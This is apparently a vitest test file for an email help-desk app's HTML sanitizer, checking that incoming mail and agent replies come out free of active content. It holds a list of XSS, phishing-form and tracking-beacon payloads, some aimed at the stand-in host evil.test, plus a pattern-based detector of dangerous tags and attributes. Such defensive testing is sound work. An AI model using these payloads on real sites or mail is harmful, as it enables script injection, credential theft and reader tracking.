import { Parser } from 'htmlparser2'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { addMessage, listMessages } from '../../src/contract/messages.ts'
import { sanitizeHtml } from '../../src/server/channels/email/reading/sanitize.ts'
import { showHtml } from '../../src/server/conversations/messages/rules.ts'
import type { Api } from '../api.ts'
import { receiveMail } from '../factories.ts'
import { openTestHouse, type TestHouse } from '../house.ts'
import { replyTo } from './desk.ts'

let house: TestHouse
let api: Api
beforeAll(async () => {
  house = await openTestHouse({ working: false })
  api = house.api(await house.as.agent)
})
afterAll(() => house.close())

/** What a browser would run or fetch by itself, were it given this HTML. */
function dangers(html: string): string[] {
  const found: string[] = []
  const loads = new Set([
    'src',
    'srcset',
    'background',
    'poster',
    'data',
    'action',
    'formaction',
    'ping',
    'xlink:href',
    'manifest',
  ])
  new Parser(
    {
      onopentag(name, attributes) {
        if (
          /^(script|style|iframe|frame|object|embed|link|meta|base|form|input|button|svg|math|template|audio|video)$/.test(
            name,
          )
        )
          found.push(`<${name}>`)
        for (const [attribute, value] of Object.entries(attributes)) {
          const harmless = /^(data:image\/|\/api\/signed\/attachments\/)/.test(value)
          if (attribute.startsWith('on')) found.push(attribute)
          if (loads.has(attribute) && !harmless) found.push(`${attribute}=${value}`)
          if (attribute === 'href' && !/^(https?:|mailto:|tel:)/i.test(value)) found.push(`href=${value}`)
          if (attribute === 'style' && /url|expression|import|behavior|position|@|\\/i.test(value)) found.push(value)
          if (name === 'a' && 'href' in attributes && !/noopener/.test(attributes.rel ?? ''))
            found.push('a without rel')
        }
      },
    },
    { decodeEntities: true },
  ).end(html)
  return found
}

const beacon = 'https://evil.test/pixel.png'
const payloads = [
  `<script>alert(1)</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img/src="x"/onerror=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg/onload=alert(1)>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="&#106;avascript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href=" \u0001javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="/api/session" target="_top">x</a>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="data:text/html,x"></object><embed src="x">`,
  `<form action="https://evil.test"><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>`,
  `<base href="https://evil.test/"><link rel=stylesheet href="https://evil.test/x.css"><meta http-equiv=refresh content="0;url=https://evil.test">`,
  `<style>@import url(https://evil.test/x.css); * { background: url(${beacon}) }</style>`,
  `<div style="background:url(${beacon})">x</div>`,
  `<div style="background:u\\72l(${beacon})">x</div>`,
  `<div style="background-image:image-set('${beacon}' 1x)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">Your session ended. Sign in.</div>`,
  `<div style="width:expression(alert(1))">x</div>`,
  `<table background="${beacon}"><td background="${beacon}">x</td></table>`,
  `<img srcset="${beacon} 2x">`,
  `<video poster="${beacon}"><source src="${beacon}"></video><audio src="${beacon}"></audio>`,
  `<input type=image src="${beacon}">`,
  `<img alt=" src=" src="${beacon}">`,
  `<img alt=' src="' src="${beacon}">`,
  `<img title="> src=" width="1" src="${beacon}">`,
  `<img src="cid:1" alt=" src=" src="${beacon}">`,
  `<IMG SRC="${beacon}">`,
  `<img src="//evil.test/pixel.png">`,
  `<img src="/api/session"><img src="file:///etc/passwd"><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<a ping="${beacon}" href="https://ok.test">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<p id="app" name="cookie" class="mantine-Button-root">x</p>`,
  `${'<div>'.repeat(5000)}<img src=x onerror=alert(1)>`,
]

test.each(payloads)('%s shows without harm', async (html) => {
  const { conversationId } = await receiveMail(house.house, { html: sanitizeHtml(`<p>Hello</p>${html}<p>Bye</p>`) })
  const { items } = await api.call(listMessages, { params: { id: conversationId } })
  expect(items[0]?.html).toContain('Hello')
  expect(dangers(items[0]?.html ?? '')).toEqual([])
  expect(items[0]?.html).not.toMatch(/\s(id|name)="/)
})

test('the watchman of these tests would see the harm', () => {
  const seen = payloads.filter((html) => dangers(html).length > 0)
  expect(seen.length).toBeGreaterThan(payloads.length * 0.7)
})

test('images elsewhere wait for the reader’s word, and then come through Heed', async () => {
  const { conversationId } = await receiveMail(house.house, {
    html: sanitizeHtml(`<p><img src="${beacon}?a=1&b=2" alt="Logo"></p>`),
  })
  const { items } = await api.call(listMessages, { params: { id: conversationId } })
  const link = /data-remote-src="([^"]*)"/.exec(items[0]?.html ?? '')?.[1]?.replaceAll('&amp;', '&') ?? ''
  const url = new URL(link, house.url)
  expect(url.pathname).toBe('/api/signed/remote-image')
  expect(url.searchParams.get('url')).toBe(`${beacon}?a=1&b=2`)
  expect((await fetch(url)).status, 'a signed link to a name that nobody has').toBe(404)
})

test('an inline image is found by its Content-ID, however it is spelled; one that is missing is left out', () => {
  const links = house.house.links
  const html = sanitizeHtml(
    '<img src="cid:logo%40x" alt="a"><img alt="b" src="CID:logo@x"><img src="cid:gone" alt="c">',
  )
  const shown = showHtml(html, [{ id: 7, contentId: 'logo@x' }], links)
  expect(shown.match(/src="\/api\/signed\/attachments\/7\?/g)).toHaveLength(2)
  expect(shown).not.toContain('cid:')
})

test('what an agent sends is cleaned too', async () => {
  const { conversationId: id } = await receiveMail(house.house)
  for (const html of payloads.slice(0, 20)) {
    const sent = await replyTo(api, id, { text: undefined, html: `<p>Hello</p>${html}` })
    expect(dangers(sent.html ?? '')).toEqual([])
    const note = await api.call(addMessage, { params: { id }, body: { kind: 'note', html: `<p>Hello</p>${html}` } })
    expect(dangers(note.html ?? '')).toEqual([])
  }
})
